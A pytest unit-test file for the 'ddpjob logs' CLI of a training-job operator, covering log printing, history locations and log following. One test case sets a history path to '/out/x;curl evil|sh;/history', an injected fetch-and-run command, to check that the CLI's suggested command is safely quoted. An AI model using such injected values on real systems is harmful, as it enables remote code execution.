"""What `ddpjob logs` says beside the logs of a cluster's job."""

import threading
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import pytest
from ddpjob_operator.api import BadInputError
from ddpjob_operator.cli.cluster import job_logs
from ddpjob_operator.cli.cluster.claim_place import claim_of, where_history_is
from ddpjob_operator.cli.cluster.job_logs import logs
from ddpjob_operator.cli.cluster.life import UNNOTICED as NOT_YET
from ddpjob_operator.cli.cluster.pod_logs import PodLogs
from ddpjob_operator.cli.logs import Which
from ddpjob_operator.client import JobPod, Jobs, UnreachableError, as_job
from ddpjob_operator.history import open_place
from ddpjob_supervisor.history.journal import Journal
from ddpjob_supervisor.history.secret_values import SecretValues
from ddpjob_supervisor.history.segments import HistoryWriter
from ddpjob_supervisor.history.targets import DirectoryTarget

from tests.unit.client.api import jobs_with, refused

Capture = pytest.CaptureFixture[str]
NO_HISTORY = "No history is kept: it has neither a history.path nor a checkpoint"
FAILURE = {
    "time": "2026-01-01T12:00:00Z",
    "attempt": 1,
    "node": 0,
    "pod": "digits-0-x",
    "cause": "Stalled",
    "message": "did not finish within 30 s of the other ranks (finishTimeoutSeconds)",
}
GONE = "ddpjob: rank 0 failed first, but its pod is gone, and its log with it\n"


FAILED = {
    "type": "Failed",
    "status": "True",
    "reason": "MaxRestartsExceeded",
    "message": "Rank 0 failed",
    "lastTransitionTime": "2026-01-01T12:00:00Z",
    "observedGeneration": 1,
}


def a_failed_job() -> dict[str, Any]:
    return {
        "apiVersion": "ddpjob.dev/v1alpha2",
        "kind": "DDPJob",
        "metadata": {"name": "digits", "namespace": "team", "uid": "uid"},
        "spec": {"nodes": 2, "template": {"spec": {"containers": [{"name": "trainer", "image": "any"}]}}},
        "status": {
            "state": "Failed",
            "attempt": 1,
            "nodes": 2,
            "bookkeeping": {"incarnations": {"default": 1}},
            "conditions": [FAILED],
            "incidents": [FAILURE],
        },
    }


def a_pod(rank: int) -> JobPod:
    return JobPod(f"digits-{rank}-x", "team", f"uid-{rank}", rank, 1, 1, started=True, ended=True)


@pytest.mark.parametrize(
    ("left", "rank", "said"),
    [
        pytest.param([1], None, GONE, id="the log of the rank that failed first is gone"),
        pytest.param([0, 1], None, "", id="it is there"),
        pytest.param([0], None, "", id="that of a rank that failed with it is gone"),
        pytest.param([1], 1, "", id="another rank is asked for"),
        pytest.param(
            [], None, f"ddpjob: its pods are gone, and their logs with them. {NO_HISTORY}\n", id="all are gone"
        ),
    ],
)
def test_it_is_told_that_the_log_that_matters_is_gone_where(
    left: list[int], rank: int | None, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    jobs = jobs_with(
        get=lambda _: a_failed_job(),
        pods=lambda _: [a_pod(one) for one in left],
        log=lambda *_, **__: [("", "a line")],
    )
    assert logs(jobs, "digits", Which(node=rank), follow=False) == 0
    printed = capsys.readouterr()
    assert printed.err == said
    assert printed.out == "".join(f"[rank {one}] a line\n" for one in left if rank in {None, one})


def a_job_with_a_history(path: str) -> dict[str, Any]:
    job = a_failed_job()
    job["status"]["historyPath"] = path
    return job


@pytest.mark.parametrize("which", [Which(), Which(attempt=1), Which(previous=True), Which(node=0, tail=1)])
def test_what_a_history_has_is_printed_where_the_pods_are_gone(
    which: Which, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(job_logs, "open_place", lambda _: open_place(str(tmp_path)))
    writer = HistoryWriter("team", "digits", "uid", 0, 1, 1)
    target = DirectoryTarget(tmp_path, writer)
    journal = Journal("s3://bucket", writer, SecretValues({}), 1, lambda: target)
    journal.hear(1, b"a line\n")
    journal.attempt = 2
    journal.hear(1, b"attempt 2 begins\nlast\n")
    journal.close(30)
    jobs = jobs_with(get=lambda _: a_job_with_a_history("s3://bucket"), pods=lambda _: [])
    assert logs(jobs, "digits", which, follow=False) == 0
    shown = "last" if which.tail else "a line"
    assert capsys.readouterr().out.splitlines()[0] == f"[rank 0] {shown}"


EARLIER = "it was started by an operator that keeps one only where history.path is set"
CLAIM = {"persistentVolumeClaim": {"claimName": "data"}}
EMPTY = {"emptyDir": {}}
ON_CLAIM = {"path": "/out", "volume": {"persistentVolumeClaim": {"claimName": "data"}}}


@pytest.mark.parametrize(
    ("spec", "path", "said"),
    [
        ({}, "s3://bucket", "holds no history of a job named digits in namespace team"),
        ({}, "/history", "its history is on a volume, at /history; copy it, and read it with --history"),
        (
            {"checkpoint": ON_CLAIM},
            "/out/history",
            "at /out/history; read it with: ddpjob logs team/digits --history pvc://data/history --uid uid",
        ),
        (
            {
                "template": {
                    "spec": {
                        "volumes": [{"name": "data", **CLAIM}],
                        "containers": [{"name": "trainer", "volumeMounts": [{"name": "data", "mountPath": "/out"}]}],
                    }
                }
            },
            "/out/x;curl evil|sh;/history",
            "--history 'pvc://data/x;curl evil|sh;/history' --uid uid",
        ),
        ({}, None, "No history is kept: it has neither a history.path nor a checkpoint"),
        ({"history": {"mode": "Disabled"}}, None, "No history is kept: its history.mode is Disabled"),
        ({"checkpoint": {"path": "/out", "volume": EMPTY}}, None, "its checkpoint.volume is deleted with its pods"),
        ({"checkpoint": ON_CLAIM}, None, f"No history is kept: {EARLIER}"),
    ],
)
def test_a_history_that_cannot_be_read_is_said(
    spec: dict[str, Any], path: str | None, said: str, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    monkeypatch.setattr(job_logs, "open_place", lambda _: open_place("."))
    job = a_failed_job()
    job["spec"] |= spec
    job["status"] |= {"historyPath": path} if path else {}
    jobs = jobs_with(get=lambda _: job, pods=lambda _: [])
    assert logs(jobs, "digits", Which(), follow=False) == 0
    told = capsys.readouterr().err
    assert said in told
    assert "its pods are gone, and their logs with them" in told


@pytest.mark.parametrize(
    ("spec", "path", "said"),
    [
        ({"checkpoint": ON_CLAIM}, "/out/history", "pvc://data/history"),
        ({"history": {"path": "s3://bucket/kept"}}, None, "s3://bucket/kept"),  # An older operator has started it.
        ({}, "/out/history", "/out/history, on a volume that is not a claim"),
        ({}, None, "none: it has neither a history.path nor a checkpoint"),
    ],
)
def test_status_says_where_a_jobs_history_is(spec: dict[str, Any], path: str | None, said: str) -> None:
    job = a_failed_job()
    job["spec"] |= spec
    job["status"] |= {"historyPath": path} if path else {}
    assert where_history_is(as_job(job)) == said


AT_DATA = {"name": "data", "mountPath": "/data"}


@pytest.mark.parametrize(
    ("path", "mounts", "checkpoint", "address"),
    [
        ("/data/history", [AT_DATA], None, "pvc://data/history"),
        ("/data", [AT_DATA], None, "pvc://data"),
        ("/data/history", [AT_DATA | {"subPath": "team"}], None, "pvc://data/team/history"),
        ("/data/history", [AT_DATA, {"name": "other", "mountPath": "/data/history"}], None, None),
        ("/data/history", [AT_DATA | {"subPathExpr": "$(POD)"}], None, None),
        ("/database", [AT_DATA], None, None),
        ("/ckpt/history", [], {"path": "/ckpt", "volume": CLAIM}, "pvc://data/history"),
        ("/ckpt/history", [], {"path": "/ckpt", "volume": {"emptyDir": {}}}, None),
    ],
)
def test_the_claim_that_has_a_history_is_named(
    path: str, mounts: list[Any], checkpoint: Any, address: str | None
) -> None:
    job = a_job_with_a_history(path)
    pod = job["spec"]["template"]["spec"]
    pod["volumes"] = [{"name": "data", **CLAIM}, {"name": "other", "emptyDir": {}}]
    pod["containers"][0]["volumeMounts"] = mounts
    job["spec"] |= {"checkpoint": checkpoint} if checkpoint else {}
    assert claim_of(as_job(job), path) == address
    pod["securityContext"] = {"runAsUser": 7}
    assert claim_of(as_job(job), path) == (address and address.replace("//", "//7@"))


@pytest.mark.parametrize(
    ("pod", "trainer", "security", "user"),
    [
        ({}, {}, "Restricted", ""),
        ({}, {"runAsUser": 1000}, "None", ""),
        ({"runAsUser": 7}, {"runAsUser": 0}, "Restricted", "0@"),
        ({"runAsUser": 7}, {}, "None", "7@"),
        ({}, {}, "None", "0@"),
        ({"runAsNonRoot": False}, {}, "Restricted", "0@"),
        ({"runAsNonRoot": False}, {"runAsNonRoot": True}, "Restricted", ""),
    ],
)
def test_the_address_of_a_history_names_the_user_who_has_written_it(
    pod: dict[str, Any], trainer: dict[str, Any], security: str, user: str
) -> None:
    job = a_failed_job()
    job["spec"]["checkpoint"] = ON_CLAIM
    job["spec"]["template"]["spec"]["securityContext"] = pod
    job["spec"]["template"]["spec"]["containers"][0]["securityContext"] = trainer
    job["status"]["podSecurity"] = security
    assert claim_of(as_job(job), "/out/history") == f"pvc://{user}data/history"


@pytest.mark.parametrize(("nodes", "node"), [(2, 2), (2, -1), (1, 1)])
def test_a_node_that_the_job_does_not_have_is_told_with_those_that_it_has(nodes: int, node: int) -> None:
    job = a_failed_job()
    job["status"]["nodes"] = nodes  # It may have fewer than its spec asks for.
    jobs = jobs_with(get=lambda _: job)
    words = f"^digits has no node {node}: its nodes are numbered 0 to {nodes - 1}$"
    with pytest.raises(BadInputError, match=words):
        logs(jobs, "digits", Which(node=node), follow=False)


@pytest.mark.parametrize("past", [False, True])
@pytest.mark.parametrize(("rank", "node"), [(0, 0), (3, 0), (4, 1), (7, 1)])
def test_of_a_rank_the_log_of_its_node_is_printed(
    rank: int, node: int, capsys: pytest.CaptureFixture[str], *, past: bool
) -> None:
    job = a_failed_job()
    job["status"] |= {"nodes": 2, "procsPerNode": 4}
    jobs = jobs_with(get=lambda _: job, pods=lambda _: [a_pod(0), a_pod(1)], log=lambda *_, **__: [("", "a line")])
    which = Which(rank=rank, attempt=1 if past else None)
    assert logs(jobs, "digits", which, follow=False) == 0
    assert capsys.readouterr().out == f"[node {node}] a line\n"


def a_job_whose_ranks_follow_placement() -> dict[str, Any]:
    job = a_failed_job()
    job["spec"]["template"]["spec"]["containers"][0]["command"] = ["ddpjob-train"]
    job["spec"]["scheduling"] = {"topology": {"preferred": "rack"}}
    job["status"]["procsPerNode"] = 4
    return job


@pytest.mark.parametrize(("order", "node"), [(None, 1), ([1, 0], 0)])
def test_where_ranks_follow_placement_the_supervisor_knows_the_node(
    order: list[int] | None, node: int, capsys: pytest.CaptureFixture[str]
) -> None:
    jobs = jobs_with(
        get=lambda _: a_job_whose_ranks_follow_placement(),
        pods=lambda _: [a_pod(0), a_pod(1)],
        status_page=lambda *_: {"order": order},
        log=lambda *_, **__: [("", "a line")],
    )
    jobs.node_of_rank = partial(Jobs.node_of_rank, jobs)
    assert logs(jobs, "digits", Which(rank=5), follow=False) == 0
    assert capsys.readouterr().out == f"[node {node}] a line\n"


@pytest.mark.parametrize("rank", [2, -1])
def test_a_rank_that_the_job_does_not_have_is_told_with_those_that_it_has(rank: int) -> None:
    jobs = jobs_with(get=lambda _: a_failed_job())
    with pytest.raises(BadInputError, match=f"^digits has no rank {rank}: its ranks are numbered 0 to 1$"):
        logs(jobs, "digits", Which(rank=rank), follow=False)


@pytest.mark.parametrize("which", [Which(rank=5, previous=True), Which(rank=5, attempt=1)])
def test_nobody_knows_where_a_rank_that_follows_placement_ran_in_an_earlier_attempt(which: Which) -> None:
    jobs = jobs_with(get=lambda _: a_job_whose_ranks_follow_placement())
    words = "^the ranks of digits follow placement; give its node in place of rank 5$"
    with pytest.raises(BadInputError, match=words):
        logs(jobs, "digits", which, follow=False)


@pytest.mark.parametrize(
    ("spec", "whose"),
    [
        pytest.param({}, "rank", id="a job whose ranks are those of their pods"),
        pytest.param({"procsPerNode": 2}, "node", id="several ranks that write into one log"),
        pytest.param({"scheduling": {"topology": {"preferred": "rack"}}}, "node", id="ranks that follow placement"),
    ],
)
def test_the_number_in_a_pod_s_name_is_called_what_it_is_for(
    spec: dict[str, Any], whose: str, capsys: pytest.CaptureFixture[str]
) -> None:
    job = a_failed_job()
    job["spec"]["template"]["spec"]["containers"][0]["command"] = ["ddpjob-train"]
    job["spec"] |= spec
    jobs = jobs_with(get=lambda _: job, pods=lambda _: [a_pod(0)], log=lambda *_, **__: [("", "a line")])
    assert logs(jobs, "digits", Which(), follow=False) == 0
    assert capsys.readouterr().out == f"[{whose} 0] a line\n"


def test_no_log_is_missed_of_a_rank_that_never_started(capsys: pytest.CaptureFixture[str]) -> None:
    job = a_failed_job()
    job["status"]["incidents"] = [FAILURE | {"cause": "ImageError"}]
    jobs = jobs_with(get=lambda _: job, pods=lambda _: [a_pod(1)], log=lambda *_, **__: [("", "a line")])
    assert logs(jobs, "digits", Which(), follow=False) == 0
    assert capsys.readouterr().err == ""


MISSING = 'StartError: CreateContainerConfigError: secret "tokens" not found'
WAITS = f"Rank 0 failed: {MISSING}; restart 1 of 6 in 2.0 s"
NOTHING = f"nothing has started: Failed after 6 restarts: Rank 0 failed: {MISSING}"


@pytest.mark.parametrize(
    ("status", "which", "said"),
    [
        pytest.param({}, Which(), "nothing has started yet: " + NOT_YET, id="before the operator"),
        pytest.param(
            {"state": "Restarting", "message": WAITS},
            Which(),
            f"nothing has started yet: {WAITS}",
            id="while a restart is waited for",
        ),
        pytest.param(
            {"message": NOTHING.partition("started: ")[2], "conditions": [FAILED]}, Which(), NOTHING, id="at the end"
        ),
        pytest.param({"message": WAITS}, Which(previous=True), WAITS, id="of an attempt before"),
        pytest.param(
            {"message": "m", "conditions": [FAILED], "firstRunTime": "2026-01-01T12:00:00Z"},
            Which(),
            f"its pods are gone, and their logs with them. {NO_HISTORY}",
            id="not where an attempt before has run",
        ),
    ],
)
def test_of_a_job_that_never_started_it_is_not_said_that_logs_are_gone(
    status: dict[str, Any], which: Which, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    job = a_failed_job()
    never = FAILURE | {"cause": "StartError", "message": MISSING}
    job["status"] = {"attempt": 2, "incidents": [never], **status} if status else {}
    jobs = jobs_with(get=lambda _: job, pods=lambda _: [])
    if which.previous:
        with pytest.raises(BadInputError) as refused:
            logs(jobs, "digits", which, follow=False)
        assert str(refused.value) == f"nothing has started yet: {said}"
        return
    assert logs(jobs, "digits", which, follow=False) == 0
    assert capsys.readouterr().err == f"ddpjob: {said}\n"


@pytest.mark.parametrize(
    ("which", "texts"),
    [
        (Which(attempt=1), ["one"]),
        (Which(attempt=2), ["attempt 2 begins in place: rank 0 failed", "two", "2"]),
        (Which(previous=True), ["attempt 2 begins in place: rank 0 failed", "two", "2"]),
        (Which(previous=True, tail=1), ["2"]),
        (Which(previous=True, since_seconds=60), ["two", "2"]),
        (
            Which(previous=True, since_seconds=60, timestamps=True),
            ["2026-01-01T12:00:02Z two", "2026-01-01T12:00:03Z 2"],
        ),
        (Which(attempt=3), ["attempt 3 begins", "three"]),
    ],
    ids=str,
)
def test_an_attempt_in_place_has_its_own_lines_of_a_pod_s_log(
    which: Which, texts: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    written = ["one", "attempt 2 begins in place: rank 0 failed", "two", "2", "attempt 3 begins", "three"]

    def log(_: JobPod, *, tail: int | None = None, since_seconds: int | None = None) -> Iterator[tuple[str, str]]:
        lines = [(f"2026-01-01T12:00:0{number}Z", text) for number, text in enumerate(written)]
        assert tail is None, "the kubelet knows no attempts"
        return iter(lines[2:] if since_seconds else lines)

    job = a_failed_job()
    job["status"] |= {"attempt": 3}
    jobs = jobs_with(get=lambda _: job, pods=lambda _: [a_pod(0)], log=log)
    assert logs(jobs, "digits", which, follow=False) == 0
    assert capsys.readouterr().out.splitlines() == [f"[rank 0] {text}" for text in texts]


def test_the_last_lines_and_their_times_are_asked_for_and_printed(capsys: pytest.CaptureFixture[str]) -> None:
    read: list[dict[str, Any]] = []

    def log(_: JobPod, **part: Any) -> list[tuple[str, str]]:
        read.append(part)
        return [("2026-01-01T12:00:00.5Z", "a line")]

    jobs = jobs_with(get=lambda _: a_failed_job(), pods=lambda _: [a_pod(0)], log=log)
    assert logs(jobs, "digits", Which(tail=5, since_seconds=60, timestamps=True), follow=False) == 0
    assert read == [{"tail": 5, "since_seconds": 60}]
    assert capsys.readouterr().out == "[rank 0] 2026-01-01T12:00:00.5Z a line\n"


def test_who_follows_gets_the_last_lines_of_what_runs_and_all_of_what_begins_later() -> None:
    runs, begins, former = (a_pod(rank) for rank in range(3))
    read: dict[int, Any] = {}

    def log(pod: JobPod, _: str, **part: Any) -> list[tuple[str, str]]:
        read[pod.node] = part["tail"]
        return [("2026-01-01T12:00:00Z", "a line")]

    jobs = jobs_with(watch_pods=lambda _: iter([]), pods=lambda _: [runs, begins, former], log=log)
    stream = PodLogs(jobs, {}, range(3), which=Which(tail=5, timestamps=True))
    stream.follow(skipped=[former], begun=[runs])
    stream.settle()
    assert read == {0: 5, 1: None}
    assert sorted(line.text for line in stream.lines()) == ["2026-01-01T12:00:00Z a line"] * 2


def test_who_follows_loses_no_line_where_the_connection_breaks() -> None:
    asked: list[str] = []

    def log(_: JobPod, after: str, **__: Any) -> Iterator[tuple[str, str]]:
        asked.append(after)
        if not after:
            yield "2026-01-01T12:00:00Z", "a line"
            raise UnreachableError
        yield "2026-01-01T12:00:01Z", "the last one"

    jobs = jobs_with(watch_pods=lambda _: iter([]), pods=lambda _: [a_pod(0)], pod=lambda pod: pod, log=log)
    stream = PodLogs(jobs, {}, (0,))
    stream.follow()
    stream.settle()
    assert [line.text for line in stream.lines()] == ["a line", "the last one"]
    assert asked == ["", "2026-01-01T12:00:00Z"]


@pytest.mark.parametrize("waits", [True, False])
def test_the_end_of_a_slow_log_is_waited_for_a_while(monkeypatch: pytest.MonkeyPatch, *, waits: bool) -> None:
    released = threading.Event()

    def log(*_: Any, **__: Any) -> Iterator[tuple[str, str]]:
        released.wait()
        yield "2026-01-01T12:00:00Z", "the last one"

    jobs = jobs_with(watch_pods=lambda _: iter([]), pods=lambda _: [a_pod(0)], log=log)
    stream = PodLogs(jobs, {}, (0,))
    monkeypatch.setattr("ddpjob_operator.cli.cluster.pod_logs.SETTLE_SECONDS", 20.0 if waits else 0.05)
    if waits:
        threading.Timer(0.1, released.set).start()
    stream.settle()
    assert [line.text for line in stream.lines()] == ["the last one"] * waits
    released.set()


def test_a_log_that_may_not_be_read_is_told_but_not_one_that_is_gone() -> None:
    for error, problem in ((refused(403), True), (refused(404, "NotFound"), False)):
        stream = PodLogs(jobs_with(pods=lambda _: [a_pod(0)], log=Mock(side_effect=error)), {}, (0,))
        stream.settle()
        assert (stream.problem is not None) is problem


def test_lines_that_have_been_read_can_be_skipped() -> None:
    texts = iter(["old", "new"])
    jobs = jobs_with(pods=lambda _: [replace(a_pod(0), uid=next(uids))], log=lambda *_, **__: [("", next(texts))])
    uids, stream = iter("ab"), PodLogs(jobs, {}, (0,))
    stream.settle()
    stream.skip()
    stream.settle()
    assert [line.text for line in stream.lines()] == ["new"]


def test_what_cannot_be_printed_is_told_of_each_pod_and_is_an_exit_code(capsys: pytest.CaptureFixture[str]) -> None:
    def log(pod: JobPod, **_: Any) -> list[tuple[str, str]]:
        if pod.node == 0:
            raise UnreachableError("no answer")
        return [("", "a line")]

    pods = [a_pod(0), a_pod(1), replace(a_pod(2), started=False), replace(a_pod(3), started=False)]
    for job, yet in ((a_failed_job(), ""), (a_running_job(nodes=4), " yet")):
        job["spec"]["nodes"] = 4
        job["status"] |= {"message": "no room", "nodes": 4, "bookkeeping": {"incarnations": {"default": 1}}}
        jobs = jobs_with(get=lambda _, job=job: job, pods=lambda _: pods, log=log)
        assert logs(jobs, "digits", Which(), follow=False) == 1
        printed = capsys.readouterr()
        assert printed.out == "[rank 1] a line\n"
        assert printed.err.splitlines()[-2:] == [
            "ddpjob: rank 0: no answer",
            f"ddpjob: no log{yet} of rank 2, 3: no room",
        ]


def test_a_node_of_a_past_attempt_is_told_with_those_that_have_a_log() -> None:
    jobs = jobs_with(get=lambda _: a_failed_job(), pods=lambda _: [a_pod(0), a_pod(1)])
    with pytest.raises(BadInputError, match=r"^no log of node 7 is left of attempt 1; there is 0, 1$"):
        logs(jobs, "digits", Which(node=7, attempt=1), follow=False)


def test_a_job_that_runs_is_followed_on_stdout(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    followed_of: list[Any] = []

    def lines(*of: Any) -> list[str]:
        followed_of.append(of[3])
        of[4]("2 pods wait")
        return ["[rank 0] a line"]

    monkeypatch.setattr(job_logs, "followed_lines", lines)
    jobs = jobs_with(get=lambda _: a_running_job(), pods=lambda _: [])
    assert logs(jobs, "digits", Which(node=0), follow=True) == 0
    assert capsys.readouterr() == ("[rank 0] a line\n", "ddpjob: 2 pods wait\n")
    assert followed_of == [Which(node=0)]


def test_who_can_follow_no_longer_knows_why() -> None:
    error = UnreachableError("no answer")
    refuses = Mock(side_effect=error)
    jobs = jobs_with(watch_pods=refuses, pods=refuses)
    for reads in (PodLogs._watch, PodLogs.settle):
        stream = PodLogs(jobs, {}, (0,))
        reads(stream)
        assert stream.problem is error


def a_running_job(*, nodes: int = 1) -> dict[str, Any]:
    job = a_failed_job()
    return job | {"spec": job["spec"] | {"nodes": nodes}, "status": {"state": "Running", "message": "", "attempt": 2}}


def followed(job: dict[str, Any], node: int | None = None, **more: Any) -> tuple[Any, list[str], list[str]]:
    """The lines of a job with a former pod that are followed until it has ended, and what is said of it."""
    pods = [a_pod(0), replace(a_pod(0), uid="uid-anew", incarnation=2)]
    begun = {**job, "status": job["status"] | {"bookkeeping": {"incarnations": {"default": 2}}}}
    jobs = jobs_with(
        watch=lambda _: iter([begun, a_failed_job()]),
        watch_pods=lambda _: iter([pods]),
        pods=lambda _: pods,
        pod=lambda pod: pod,
        log=lambda pod, *_, **__: iter([("2026-01-01T12:00:00Z", f"incarnation {pod.incarnation}")]),
        **more,
    )
    said = list[str]()
    lines = job_logs.followed_lines(jobs, begun, pods, Which(node), said.append)
    return jobs, [line.text for line in lines], said


def test_a_job_is_followed_to_its_end_but_not_the_pods_before_it() -> None:
    _, lines, said = followed(a_running_job())
    assert (lines, said) == (["incarnation 2"], [])


@pytest.mark.parametrize(("node", "says"), [(None, True), (0, False)])
def test_of_a_very_large_job_it_says_which_nodes_are_followed(node: int | None, *, says: bool) -> None:
    _, _, said = followed(a_running_job(nodes=65), node)
    notice = "nodes 0 to 63 of 65; each other node has to be followed by its number"
    assert said == [notice] * says
    assert followed(a_running_job(nodes=64))[2] == []


def test_who_follows_a_job_is_told_why_that_goes_on_no_longer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(PodLogs, "problem", UnreachableError("no answer"), raising=False)
    monkeypatch.setattr(PodLogs, "__init__", lambda *_: None)
    for name in ("follow", "settle", "stop"):
        monkeypatch.setattr(PodLogs, name, lambda *_, **__: None)
    monkeypatch.setattr(PodLogs, "lines", lambda _: iter(()))
    with pytest.raises(UnreachableError, match="no answer"):
        followed(a_running_job())
